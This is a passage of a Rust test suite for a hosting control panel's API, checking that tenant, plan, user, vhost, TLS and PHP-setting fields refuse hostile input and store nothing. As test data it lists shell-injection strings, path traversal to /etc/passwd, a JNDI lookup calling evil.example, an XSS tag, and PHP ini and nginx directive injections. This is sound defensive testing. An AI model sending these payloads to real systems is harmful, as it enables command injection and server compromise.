//! Hostile input at every field: each is refused with 422 naming the field (400 for a body
//! that is not JSON, 413 too large, 415 not JSON at all), and nothing is stored, the audit
//! log included.

use crate::harness::*;
use reqwest::Method;
use serde_json::{json, Value};

/// Values no name, domain, path or enumerated setting may accept: shell metacharacters,
/// line breaks, NUL, traversal, look-alikes and invisible characters, template and lookup
/// injections, empty, blank and overlong strings.
fn hostile() -> Vec<String> {
    let mut values: Vec<String> = [
        "a;id",
        "a|id",
        "a&id",
        "$(id)",
        "`id`",
        "a<b>c",
        "a>b",
        "a\r\nb",
        "a\nb",
        "a\rb",
        "a\0b",
        "..",
        "%2e%2e",
        "%2e%2e/x",
        "../../etc/passwd",
        "ex\u{0430}mple.com",                             // Cyrillic 'а'
        "\u{ff45}\u{ff58}\u{ff41}\u{ff4d}\u{ff50}le.com", // full-width "exam"p
        "\u{ff41}\u{ff44}\u{ff4d}\u{ff49}\u{ff4e}",       // full-width "admin"
        "exa\u{200b}mple.com",                            // zero-width space
        "\u{202e}moc.elpmaxe",                            // right-to-left override
        "a\u{feff}b",                                     // byte order mark
        "a\u{2028}b",                                     // line separator
        "",
        "   ",
        "\t",
        "-rf",
        "example.com.",
        "/etc/passwd",
        "~root",
        "a\\b",
        "a'b",
        "a\"b",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "a b",
        "*",
        "x.php\0.jpg",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    values.push("a".repeat(300));
    values.push(format!("{}.example.com", "a".repeat(300)));
    values
}

/// Passwords the rules refuse: short, with control characters, too long.
fn bad_passwords() -> Vec<String> {
    vec![
        String::new(),
        "short".into(),
        "123456789".into(),
        "abcde\0fghijk".into(),
        "abcdefghijk\n".into(),
        "abcde\r\nfghijk".into(),
        "\u{7f}abcdefghijk".into(),
        "x".repeat(257),
        "\u{e9}".repeat(257), // 257 characters, 514 bytes
    ]
}

/// The PHP settings a tenant may change.
const PHP_KEYS: &[&str] = &[
    "memory_limit",
    "upload_max_filesize",
    "post_max_size",
    "max_execution_time",
    "max_input_time",
    "max_input_vars",
    "session.gc_maxlifetime",
    "display_errors",
    "short_open_tag",
    "allow_url_fopen",
    "date.timezone",
];

/// An admin, plan `basic`, reseller `resa`, tenant `acme` with vhost `site.example.com`.
async fn fixture() -> (App, Api) {
    let app = spawn_app().await;
    let admin = app.admin().await;
    create_plan(&admin, "basic", json!({})).await;
    create_reseller(&app, &admin, "resa", json!({"max_tenants": 5})).await;
    create_tenant(&admin, "acme", "basic", json!({"password": PASSWORD})).await;
    create_vhost(&admin, "acme", "site.example.com").await;
    (app, admin)
}

/// Sends `body` and asserts a 422 problem naming `field`.
/// Sends a well-formed request the current state refuses: 409 naming `field`.
async fn conflicting(api: &Api, m: Method, path: &str, body: Value, field: &str) {
    let r = api.send(m.clone(), path, Some(&body)).await;
    let what = format!("{m} {path} {body}");
    assert_refused(r.status, &r.json, field, &what);
    assert_eq!(r.content_type(), "application/problem+json", "{what}");
}

async fn refused(api: &Api, m: Method, path: &str, body: Value, field: &str) {
    let r = api.send(m.clone(), path, Some(&body)).await;
    let what = format!("{m} {path} {body}");
    assert_invalid(r.status, &r.json, field, &what);
    assert_eq!(r.content_type(), "application/problem+json", "{what}");
    assert!(
        r.json["detail"].as_str().is_some_and(|d| !d.is_empty()),
        "{what}: no detail in {}",
        r.text
    );
}

#[tokio::test]
async fn hostile_tenant_fields_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    for v in hostile() {
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": v, "plan": "basic"}),
            "name",
        )
        .await;
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": v}),
            "plan",
        )
        .await;
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "owner": v}),
            "owner",
        )
        .await;
    }
    // Reserved words and names of this machine's own accounts.
    for name in [
        "root", "admin", "www", "lodge", "nobody", "daemon", "mysql", "test",
    ] {
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": name, "plan": "basic"}),
            "name",
        )
        .await;
    }
    match system_account_name() {
        Some(name) => {
            conflicting(
                &admin,
                Method::POST,
                "/tenants",
                json!({"name": name, "plan": "basic"}),
                "name",
            )
            .await
        }
        None => eprintln!("no unreserved system account found; skipping that case"),
    }
    // Shape rules: a letter first, lowercase letters and digits, 2 to 31 characters.
    for name in ["a", "1acme", "Acme", "ac-me", "ac_me", &"a".repeat(32)] {
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": name, "plan": "basic"}),
            "name",
        )
        .await;
    }
    for p in bad_passwords() {
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "password": p}),
            "password",
        )
        .await;
        refused(
            &admin,
            Method::PATCH,
            "/tenants/acme",
            json!({"password": p}),
            "password",
        )
        .await;
    }
    // Missing fields.
    refused(
        &admin,
        Method::POST,
        "/tenants",
        json!({"plan": "basic"}),
        "name",
    )
    .await;
    refused(
        &admin,
        Method::POST,
        "/tenants",
        json!({"name": "fresh"}),
        "plan",
    )
    .await;
    // A plan that does not exist: well-formed, refused by the state.
    conflicting(
        &admin,
        Method::PATCH,
        "/tenants/acme",
        json!({"plan": "nope"}),
        "plan",
    )
    .await;
    conflicting(
        &admin,
        Method::POST,
        "/tenants",
        json!({"name": "fresh", "plan": "nope"}),
        "plan",
    )
    .await;
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile tenant fields",
    );
    // Still usable afterwards: a clean request goes through.
    create_tenant(&admin, "fresh", "basic", json!({})).await;
}

/// A name of this machine's own users or groups that is not on lodge's reserved list but
/// has a tenant name's shape, if there is one.
fn system_account_name() -> Option<String> {
    let mut names = Vec::new();
    for file in ["/etc/passwd", "/etc/group"] {
        if let Ok(text) = std::fs::read_to_string(file) {
            names.extend(
                text.lines()
                    .filter_map(|l| l.split(':').next())
                    .map(str::to_owned),
            );
        }
    }
    names.into_iter().find(|n| {
        n.len() >= 2
            && n.len() <= 31
            && n.starts_with(|c: char| c.is_ascii_lowercase())
            && n.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
            && ![
                "root",
                "daemon",
                "bin",
                "sys",
                "sync",
                "games",
                "man",
                "lp",
                "mail",
                "news",
                "uucp",
                "proxy",
                "backup",
                "list",
                "irc",
                "gnats",
                "nobody",
                "adm",
                "tty",
                "disk",
                "kmem",
                "dialout",
                "cdrom",
                "floppy",
                "tape",
                "sudo",
                "audio",
                "video",
                "plugdev",
                "staff",
                "users",
                "operator",
                "shadow",
                "utmp",
                "input",
                "render",
                "kvm",
                "netdev",
                "messagebus",
                "systemd",
                "sshd",
                "postgres",
                "mysql",
            ]
            .contains(&n.as_str())
    })
}

#[tokio::test]
async fn hostile_plan_fields_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    for v in hostile() {
        refused(&admin, Method::POST, "/plans", json!({"name": v}), "name").await;
        refused(
            &admin,
            Method::POST,
            "/plans",
            json!({"name": "pro", "php": {"pm": v}}),
            "php.pm",
        )
        .await;
        refused(
            &admin,
            Method::POST,
            "/plans",
            json!({"name": "pro", "php": {"disable_functions": ["exec", v]}}),
            "php.disable_functions",
        )
        .await;
    }
    for name in ["Pro", "pro-", "1pro", "pro_2", &"p".repeat(41)] {
        refused(
            &admin,
            Method::POST,
            "/plans",
            json!({"name": name}),
            "name",
        )
        .await;
    }
    refused(&admin, Method::POST, "/plans", json!({}), "name").await;
    // Numbers outside their ranges, or not whole numbers at all.
    let numbers: &[(&str, Value)] = &[
        ("max_vhosts", json!(-1)),
        ("max_vhosts", json!(100_001)),
        ("max_vhosts", json!("10")),
        ("max_vhosts", json!(1.5)),
        ("max_vhosts", json!(1e30)),
        ("max_vhosts", json!(null)), // explicit null is "keep the default"; see below
        ("disk_mb", json!(-1)),
        ("disk_mb", json!(100_000_001)),
        ("memory_mb", json!(63)),
        ("memory_mb", json!(1_048_577)),
        ("cpu_percent", json!(0)),
        ("cpu_percent", json!(6401)),
        ("max_processes", json!(7)),
        ("max_processes", json!(100_001)),
        ("max_processes", json!(-9_223_372_036_854_775_807i64)),
    ];
    for (field, value) in numbers {
        if value.is_null() {
            continue;
        }
        refused(
            &admin,
            Method::POST,
            "/plans",
            json!({"name": "pro", *field: value}),
            field,
        )
        .await;
        refused(
            &admin,
            Method::PATCH,
            "/plans/basic",
            json!({*field: value}),
            field,
        )
        .await;
    }
    let php_numbers: &[(&str, Value)] = &[
        ("max_children", json!(0)),
        ("max_children", json!(1001)),
        ("max_children", json!(-5)),
        ("max_requests", json!(-1)),
        ("max_requests", json!(1_000_001)),
        ("memory_limit_mb", json!(15)),
        ("memory_limit_mb", json!(16_385)),
        ("upload_max_mb", json!(0)),
        ("upload_max_mb", json!(10_241)),
        ("max_execution_time", json!(0)),
        ("max_execution_time", json!(86_401)),
        ("max_execution_time", json!("60")),
    ];
    for (key, value) in php_numbers {
        let field = format!("php.{key}");
        refused(
            &admin,
            Method::POST,
            "/plans",
            json!({"name": "pro", "php": {*key: value}}),
            &field,
        )
        .await;
        refused(
            &admin,
            Method::PATCH,
            "/plans/basic",
            json!({"php": {*key: value}}),
            &field,
        )
        .await;
    }
    conflicting(
        &admin,
        Method::PATCH,
        "/plans/basic",
        json!({"name": "renamed"}),
        "name",
    )
    .await;
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile plan fields",
    );
    let plan = create_plan(
        &admin,
        "pro",
        json!({"max_vhosts": 0, "php": {"max_children": 1000}}),
    )
    .await;
    assert_eq!(plan["max_vhosts"], 0);
}

#[tokio::test]
async fn hostile_user_fields_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    for v in hostile() {
        refused(
            &admin,
            Method::POST,
            "/users",
            json!({"username": v, "password": PASSWORD, "role": "reseller"}),
            "username",
        )
        .await;
        refused(
            &admin,
            Method::POST,
            "/users",
            json!({"username": "newbie", "password": PASSWORD, "role": v}),
            "role",
        )
        .await;
    }
    for name in ["A", "a", "Admin", "1abc", "_abc", "-abc", &"u".repeat(33)] {
        refused(
            &admin,
            Method::POST,
            "/users",
            json!({"username": name, "password": PASSWORD, "role": "reseller"}),
            "username",
        )
        .await;
    }
    for p in bad_passwords() {
        refused(
            &admin,
            Method::POST,
            "/users",
            json!({"username": "newbie", "password": p, "role": "reseller"}),
            "password",
        )
        .await;
        refused(
            &admin,
            Method::PATCH,
            "/users/resa",
            json!({"password": p}),
            "password",
        )
        .await;
    }
    // Limits: negative, too large, not numbers, unknown.
    let limits: &[(&str, Value)] = &[
        ("max_tenants", json!(-1)),
        ("max_vhosts", json!(-100)),
        ("max_php_workers", json!(-1)),
        ("max_tenants", json!(1_000_001)),
        ("max_vhosts", json!("5")),
        ("max_php_workers", json!(2.5)),
        ("max_sites", json!(1)),
    ];
    for (key, value) in limits {
        let field = format!("limits.{key}");
        refused(
            &admin,
            Method::POST,
            "/users",
            json!({"username": "newbie", "password": PASSWORD, "role": "reseller", "limits": {*key: value}}),
            &field,
        )
        .await;
        refused(
            &admin,
            Method::PATCH,
            "/users/resa",
            json!({"limits": {*key: value}}),
            &field,
        )
        .await;
    }
    // Limits belong to resellers only; a tenant login must be named after a tenant.
    refused(
        &admin,
        Method::POST,
        "/users",
        json!({"username": "newbie", "password": PASSWORD, "role": "admin", "limits": {"max_tenants": 1}}),
        "limits",
    )
    .await;
    conflicting(
        &admin,
        Method::POST,
        "/users",
        json!({"username": "nosuchtenant", "password": PASSWORD, "role": "tenant"}),
        "username",
    )
    .await;
    refused(&admin, Method::POST, "/users", json!({}), "username").await;
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile user fields",
    );
}

#[tokio::test]
async fn hostile_token_names_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    let names = [
        String::new(),
        "   ".into(),
        "a\nb".into(),
        "a\0b".into(),
        "\u{202e}x".into(),
        "a\u{200b}b".into(),
        "\u{ff41}".into(),
        "x".repeat(65),
    ];
    for name in names {
        refused(
            &app.anon(),
            Method::POST,
            "/tokens",
            json!({"username": ADMIN, "password": ADMIN_PASSWORD, "name": name}),
            "name",
        )
        .await;
    }
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile token names",
    );
}

#[tokio::test]
async fn hostile_vhost_fields_are_refused() {
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    let create = "/tenants/acme/vhosts";
    let update = "/vhosts/site.example.com";
    for v in hostile() {
        refused(&admin, Method::POST, create, json!({"domain": v}), "domain").await;
        for (path, m, base) in [
            (create, Method::POST, json!({"domain": "new.example.com"})),
            (update, Method::PATCH, json!({})),
        ] {
            let with = |key: &str, value: Value| {
                let mut body = base.clone();
                body[key] = value;
                body
            };
            refused(
                &admin,
                m.clone(),
                path,
                with("aliases", json!([v])),
                "aliases[0]",
            )
            .await;
            refused(
                &admin,
                m.clone(),
                path,
                with("aliases", json!(["www.new.example.com", v])),
                "aliases[1]",
            )
            .await;
            // A docroot may legitimately end in a dot ("example.com." is a directory name).
            if v != "example.com." && v != "-rf" {
                refused(
                    &admin,
                    m.clone(),
                    path,
                    with("docroot", json!(v)),
                    "docroot",
                )
                .await;
            }
            // An empty front controller means "none".
            if !v.is_empty() {
                refused(
                    &admin,
                    m.clone(),
                    path,
                    with("front_controller", json!(v)),
                    "front_controller",
                )
                .await;
            }
            refused(
                &admin,
                m.clone(),
                path,
                with("tls_mode", json!(v)),
                "tls_mode",
            )
            .await;
            refused(
                &admin,
                m.clone(),
                path,
                with("redirect_www", json!(v)),
                "redirect_www",
            )
            .await;
        }
        // The domain of an existing vhost cannot change, to anything.
        refused(
            &admin,
            Method::PATCH,
            update,
            json!({"domain": v}),
            "domain",
        )
        .await;
    }
    // Paths that escape the tenant's home or land in lodge's own directories.
    for docroot in [
        "/",
        "/var/www",
        "a/../../b",
        "a/..",
        ".git",
        "a/.ssh",
        "./",
        "logs",
        "tmp/x",
        "sessions",
    ] {
        refused(
            &admin,
            Method::PATCH,
            update,
            json!({"docroot": docroot}),
            "docroot",
        )
        .await;
    }
    for fc in [
        "index.php",
        "/index.html",
        "/../x.php",
        "/a b.php",
        "/.hidden.php",
        "/x.php/../y.php",
    ] {
        refused(
            &admin,
            Method::PATCH,
            update,
            json!({"front_controller": fc}),
            "front_controller",
        )
        .await;
    }
    // Domains of the wrong shape.
    for domain in [
        "localhost",
        "example",
        "1.2.3.4",
        "a..b.com",
        "-a.example.com",
        "a-.example.com",
        "a_b.example.com",
        "example.com:8080",
        "http://example.com",
        "user@example.com",
        "example.com/x",
        "example\u{3002}com",
        &format!("{}.com", "a".repeat(64)),
        &format!("{}com", "a.".repeat(130)),
    ] {
        refused(
            &admin,
            Method::POST,
            create,
            json!({"domain": domain}),
            "domain",
        )
        .await;
    }
    // Wrong types.
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "php": "yes"}),
        "php",
    )
    .await;
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "aliases": "x.example.com"}),
        "aliases",
    )
    .await;
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "redirect_https": 1}),
        "redirect_https",
    )
    .await;
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": ["new.example.com"]}),
        "domain",
    )
    .await;
    let many: Vec<String> = (0..33).map(|i| format!("a{i}.example.com")).collect();
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "aliases": many}),
        "aliases",
    )
    .await;
    // An alias equal to the domain, or listed twice: a name already served, by this vhost.
    conflicting(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "aliases": ["NEW.example.com"]}),
        "aliases[0]",
    )
    .await;
    conflicting(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "aliases": ["a.example.com", "a.example.com"]}),
        "aliases[1]",
    )
    .await;
    // HTTPS redirects need TLS: malformed in a new vhost, a conflict with a stored one.
    refused(
        &admin,
        Method::POST,
        create,
        json!({"domain": "new.example.com", "redirect_https": true}),
        "redirect_https",
    )
    .await;
    conflicting(
        &admin,
        Method::PATCH,
        update,
        json!({"redirect_https": true}),
        "redirect_https",
    )
    .await;
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile vhost fields",
    );
}

/// A PEM certificate and key the format check accepts (the proxy checks the DER itself).
/// A real pair for the vhosts these tests upload to.
static PAIR: std::sync::LazyLock<(String, String)> =
    std::sync::LazyLock::new(|| test_certificate(&["site.example.com", "new.example.com"]));

#[tokio::test]
async fn hostile_tls_material_is_refused() {
    let (pem_cert, pem_key) = (PAIR.0.as_str(), PAIR.1.as_str());
    let (app, admin) = fixture().await;
    let before = snapshot(&app, &admin).await;
    let update = "/vhosts/site.example.com";
    let certs = [
        "hello".to_owned(),
        "   ".to_owned(),
        "-----BEGIN CERTIFICATE-----\n$(id)\n-----END CERTIFICATE-----".to_owned(),
        "-----BEGIN CERTIFICATE-----\nAAAA\n".to_owned(),
        "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----".to_owned(),
        format!("{pem_cert}ssl_certificate_key /etc/shadow;"),
        format!("include /etc/nginx/evil.conf;\n{pem_cert}"),
        pem_key.to_owned(),
        pem_cert.replace("MIIB", "MI B"),
        pem_cert.replace("MIIB", "MI\0B"),
        format!(
            "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----",
            "A".repeat(77)
        ),
        format!(
            "-----BEGIN CERTIFICATE-----\n{}-----END CERTIFICATE-----",
            "AAAA\n".repeat(14_000)
        ),
    ];
    for cert in &certs {
        refused(
            &admin,
            Method::PATCH,
            update,
            json!({"tls_mode": "custom", "tls_certificate": cert, "tls_key": pem_key}),
            "tls_certificate",
        )
        .await;
    }
    let keys = [
        "hello".to_owned(),
        pem_cert.to_owned(),
        format!("{pem_key}{pem_key}"),
        pem_key.replace("-----END PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"),
        pem_key.replace("MIGH", "MI;H"),
        format!("{pem_key}\n`id`"),
    ];
    for key in &keys {
        refused(
            &admin,
            Method::PATCH,
            update,
            json!({"tls_mode": "custom", "tls_certificate": pem_cert, "tls_key": key}),
            "tls_key",
        )
        .await;
    }
    // Custom TLS needs both: malformed in a new vhost, a conflict with a stored one that
    // has neither.
    refused(
        &admin,
        Method::POST,
        "/tenants/acme/vhosts",
        json!({"domain": "new.example.com", "tls_mode": "custom", "tls_key": pem_key}),
        "tls_certificate",
    )
    .await;
    conflicting(
        &admin,
        Method::PATCH,
        update,
        json!({"tls_mode": "custom", "tls_key": pem_key}),
        "tls_certificate",
    )
    .await;
    conflicting(
        &admin,
        Method::PATCH,
        update,
        json!({"tls_mode": "custom", "tls_certificate": pem_cert}),
        "tls_key",
    )
    .await;
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile TLS material",
    );
    // The well-formed pair is accepted, and the key is never shown.
    let r = admin
        .send(
            Method::PATCH,
            update,
            Some(&json!({"tls_mode": "custom", "tls_certificate": pem_cert, "tls_key": pem_key, "redirect_https": true})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json["tls_has_key"], true);
    assert!(!r.text.contains("PRIVATE KEY"), "{}", r.text);
}

#[tokio::test]
async fn hostile_php_settings_are_refused() {
    let (app, admin) = fixture().await;
    // A tenant login may change these too; its requests are held to the same rules.
    let login = app.sign_in("acme", PASSWORD).await;
    let before = snapshot(&app, &admin).await;

    let mut values: Vec<Value> = hostile().into_iter().map(Value::String).collect();
    values.extend([
        json!("256M\nextension=x.so"),
        json!("128M;extension=evil.so"),
        json!("On\nauto_prepend_file=/etc/passwd"),
        json!("1\r\nopen_basedir=/"),
        json!("-1"),
        json!("0x10"),
        json!("4294967296"),
        json!("99999999999"),
        json!(-1),
        json!(1.5),
        json!(1e12),
        json!(-99_999_999_999i64),
        json!([]),
        json!({}),
        json!(["128M"]),
    ]);
    for key in PHP_KEYS {
        let field = format!("php.{key}");
        for v in &values {
            refused(
                &login,
                Method::PATCH,
                "/tenants/acme",
                json!({"php": {*key: v}}),
                &field,
            )
            .await;
        }
        // Below the floor or outside what any plan allows: malformed.
        let out_of_range = match *key {
            "memory_limit" => vec![json!("15M"), json!(0)],
            "upload_max_filesize" | "post_max_size" => vec![json!("0M")],
            "max_execution_time" | "max_input_time" => vec![json!(0)],
            "max_input_vars" => vec![json!(99), json!(100_001)],
            "session.gc_maxlifetime" => vec![json!(59), json!(2_592_001)],
            "date.timezone" => vec![json!("Europe/../Berlin"), json!("Europe/Berlin\n")],
            _ => vec![json!("yes"), json!(2), json!("enabled")],
        };
        for v in out_of_range {
            refused(
                &login,
                Method::PATCH,
                "/tenants/acme",
                json!({"php": {*key: v}}),
                &field,
            )
            .await;
        }
        // Above this tenant's plan (256M memory, 64M uploads, 60 s), or a time zone this
        // machine does not know: well-formed, refused by the state.
        let refused_here = match *key {
            "memory_limit" => vec![json!("257M"), json!("1G")],
            "upload_max_filesize" | "post_max_size" => vec![json!("65M"), json!("1G")],
            "max_execution_time" | "max_input_time" => vec![json!(61), json!("3600")],
            "date.timezone" => vec![json!("Mars/Olympus")],
            _ => vec![],
        };
        for v in refused_here {
            conflicting(
                &login,
                Method::PATCH,
                "/tenants/acme",
                json!({"php": {*key: v}}),
                &field,
            )
            .await;
        }
    }
    // Keys outside the whitelist, however they are spelled.
    let keys = [
        "auto_prepend_file",
        "auto_append_file",
        "extension",
        "zend_extension",
        "open_basedir",
        "disable_functions",
        "sendmail_path",
        "error_log",
        "include_path",
        "memory_limit\nextension",
        "memory_limit ",
        " memory_limit",
        "MEMORY_LIMIT",
        "php_admin_value[memory_limit]",
        "memory_limit]\nphp_admin_value[open_basedir",
        "",
        "a\0b",
    ];
    for key in keys {
        for api in [&admin, &login] {
            let r = api
                .send(
                    Method::PATCH,
                    "/tenants/acme",
                    Some(&json!({"php": {key: "1"}})),
                )
                .await;
            assert_eq!(r.status, 422, "php key {key:?}: {}", r.text);
            let fields = error_fields(&r.json);
            assert!(
                fields.len() == 1 && fields[0].starts_with("php."),
                "php key {key:?}: {fields:?}"
            );
            // The echoed key is printable ASCII only.
            assert!(
                fields[0].chars().all(|c| c.is_ascii_graphic()),
                "{fields:?}"
            );
        }
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "php": {key: "1"}}),
            &format!("php.{}", printable(key)),
        )
        .await;
    }
    // More keys than there are settings.
    let mut many = serde_json::Map::new();
    for i in 0..40 {
        many.insert(format!("k{i}"), json!("1"));
    }
    refused(
        &admin,
        Method::PATCH,
        "/tenants/acme",
        json!({"php": many}),
        "php",
    )
    .await;
    refused(
        &admin,
        Method::PATCH,
        "/tenants/acme",
        json!({"php": "memory_limit=1G"}),
        "php",
    )
    .await;
    // A bad value among good ones changes nothing at all.
    refused(
        &login,
        Method::PATCH,
        "/tenants/acme",
        json!({"php": {"memory_limit": "128M", "display_errors": "maybe"}}),
        "php.display_errors",
    )
    .await;
    // Hostile values in a new tenant's settings too.
    for v in ["256M\nextension=x.so", "$(id)", "-1"] {
        refused(
            &admin,
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "php": {"memory_limit": v}}),
            "php.memory_limit",
        )
        .await;
    }
    assert_unchanged(
        &before,
        &snapshot(&app, &admin).await,
        "hostile PHP settings",
    );
    let (_, acme) = admin.get("/tenants/acme").await;
    assert_eq!(acme["php"], json!({}));
}

/// What lodge echoes of a client-supplied key: printable ASCII, other characters as '?'.
fn printable(key: &str) -> String {
    key.chars()
        .take(64)
        .map(|c| if c.is_ascii_graphic() { c } else { '?' })
        .collect()
}

/// Bodies that are too large, not JSON, of the wrong content type or with unknown fields.
#[tokio::test]
async fn malformed_bodies_are_refused() {
    let (app, admin) = fixture().await;
    let token = app.token(ADMIN, ADMIN_PASSWORD).await;
    let before = snapshot(&app, &admin).await;
    let routes = [
        (Method::POST, "/tenants"),
        (Method::PATCH, "/tenants/acme"),
        (Method::POST, "/tenants/acme/vhosts"),
        (Method::PATCH, "/vhosts/site.example.com"),
        (Method::POST, "/plans"),
        (Method::POST, "/users"),
        (Method::PATCH, "/users/resa"),
    ];
    let big = serde_json::to_vec(&json!({"name": "a".repeat(300 * 1024)})).unwrap();
    for (m, path) in &routes {
        let answer = raw_http(
            &app,
            &format!(
                "{m} /api/v1{path} HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\
                 Content-Type: application/json\r\nContent-Length: {}",
                big.len()
            ),
            big.clone(),
        )
        .await;
        assert_eq!(
            raw_status(&answer),
            413,
            "{m} {path} with 300 KiB: {answer}"
        );

        for ct in [
            None,
            Some("text/plain"),
            Some("application/x-www-form-urlencoded"),
            Some("application/jsonx"),
            Some("multipart/form-data; boundary=x"),
        ] {
            let r = admin
                .send_raw(
                    m.clone(),
                    path,
                    ct,
                    br#"{"name":"fresh","plan":"basic"}"#.to_vec(),
                )
                .await;
            assert_eq!(r.status, 415, "{m} {path} as {ct:?}: {}", r.text);
            assert_eq!(r.content_type(), "application/problem+json");
        }
        // (Syntax errors before any key: an unknown key is reported as soon as it is read.)
        for body in [
            "not json",
            "{",
            "",
            "{,}",
            "{1:2}",
            "{'a': 1}",
            "\u{feff}{}",
        ] {
            let r = admin
                .send_raw(
                    m.clone(),
                    path,
                    Some("application/json"),
                    body.as_bytes().to_vec(),
                )
                .await;
            assert_eq!(r.status, 400, "{m} {path} with {body:?}: {}", r.text);
            assert_eq!(r.json["status"], 400);
        }
        for body in ["[]", "null", "42", "\"x\""] {
            let r = admin
                .send_raw(
                    m.clone(),
                    path,
                    Some("application/json"),
                    body.as_bytes().to_vec(),
                )
                .await;
            assert_invalid(
                r.status,
                &r.json,
                "body",
                &format!("{m} {path} with {body}"),
            );
        }
    }
    // The token endpoint too, before any password is checked.
    let r = app
        .anon()
        .send_raw(
            Method::POST,
            "/tokens",
            Some("text/plain"),
            b"username=admin".to_vec(),
        )
        .await;
    assert_eq!(r.status, 415, "{}", r.text);
    let answer = raw_http(
        &app,
        &format!(
            "POST /api/v1/tokens HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}",
            big.len()
        ),
        big.clone(),
    )
    .await;
    assert_eq!(
        raw_status(&answer),
        413,
        "POST /tokens with 300 KiB: {answer}"
    );

    // Unknown fields are named, at the top level and inside objects.
    let unknown: &[(Method, &str, Value, &str)] = &[
        (
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "uid": 0}),
            "uid",
        ),
        (
            Method::POST,
            "/tenants",
            json!({"name": "fresh", "plan": "basic", "state": "active"}),
            "state",
        ),
        (
            Method::PATCH,
            "/tenants/acme",
            json!({"name": "renamed"}),
            "name",
        ),
        (
            Method::POST,
            "/tenants/acme/vhosts",
            json!({"domain": "new.example.com", "tls_key_path": "/etc/ssl/private/x.key"}),
            "tls_key_path",
        ),
        (
            Method::PATCH,
            "/vhosts/site.example.com",
            json!({"tenant": "other"}),
            "tenant",
        ),
        (
            Method::POST,
            "/plans",
            json!({"name": "pro", "php": {"open_basedir": "/"}}),
            "php.open_basedir",
        ),
        (
            Method::POST,
            "/users",
            json!({"username": "newbie", "password": PASSWORD, "role": "reseller", "is_admin": true}),
            "is_admin",
        ),
        (
            Method::POST,
            "/users",
            json!({"username": "newbie", "password": PASSWORD, "role": "reseller", "limits": {"max_sites": 1}}),
            "limits.max_sites",
        ),
        (
            Method::PATCH,
            "/users/resa",
            json!({"role": "admin"}),
            "role",
        ),
    ];
    for (m, path, body, field) in unknown {
        refused(&admin, m.clone(), path, body.clone(), field).await;
    }
    let r = app
        .anon()
        .send(
            Method::POST,
            "/tokens",
            Some(&json!({"username": ADMIN, "password": ADMIN_PASSWORD, "role": "admin"})),
        )
        .await;
    assert_invalid(r.status, &r.json, "role", "unknown field in a sign-in");

    // Query strings are checked too.
    for q in ["limit=0", "limit=501", "limit=-1", "limit=abc", "limit=1e3"] {
        let (status, body) = admin.get(&format!("/tenants?{q}")).await;
        assert_invalid(status, &body, "limit", q);
    }
    let (status, body) = admin
        .get(&format!("/tenants?after={}", "a".repeat(301)))
        .await;
    assert_invalid(status, &body, "after", "overlong cursor");
    let (status, body) = admin.get("/tenants?q=%24%28id%29").await;
    assert_invalid(status, &body, "q", "hostile search");
    let (status, body) = admin.get("/users?role=root").await;
    assert_invalid(status, &body, "role", "unknown role filter");
    for q in ["since=yesterday", "until=2024-13-01T00:00:00Z", "after=abc"] {
        let (status, body) = admin.get(&format!("/audit?{q}")).await;
        assert_invalid(status, &body, q.split('=').next().unwrap(), q);
    }
    assert_unchanged(&before, &snapshot(&app, &admin).await, "malformed bodies");
}

/// A body over the limit sent without a Content-Length (chunked) is refused as too large,
/// like one that announces its length.
#[tokio::test]
async fn oversized_chunked_body_is_413() {
    let (app, admin) = fixture().await;
    let token = app.token(ADMIN, ADMIN_PASSWORD).await;
    let before = snapshot(&app, &admin).await;
    let mut body = b"{\"name\":\"".to_vec();
    body.extend(std::iter::repeat_n(b'a', 300 * 1024));
    body.extend(b"\"}");
    let mut framed = Vec::new();
    for chunk in body.chunks(16 * 1024) {
        framed.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
        framed.extend(chunk);
        framed.extend(b"\r\n");
    }
    framed.extend(b"0\r\n\r\n");
    let answer = raw_http(
        &app,
        &format!(
            "POST /api/v1/plans HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\
             Content-Type: application/json\r\nTransfer-Encoding: chunked"
        ),
        framed,
    )
    .await;
    assert_eq!(
        raw_status(&answer),
